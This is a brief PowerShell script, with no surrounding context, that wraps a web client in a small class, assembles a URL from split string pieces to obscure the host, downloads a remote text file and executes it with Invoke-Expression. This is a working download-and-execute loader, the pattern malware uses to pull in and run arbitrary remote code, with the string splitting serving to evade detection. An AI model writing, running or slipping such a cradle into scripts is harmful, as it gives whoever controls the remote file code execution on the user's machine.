class D { [string]$u; D([string]$x){ $this.u=$x } [string] Get(){ return (New-Object Net.WebClient).DownloadString($this.u) } static [string] J([string[]]$p){ return $p -join "" } }
$d=[D]::new([D]::J(@("http://a0",".example","/p.txt")))
iex $d.Get()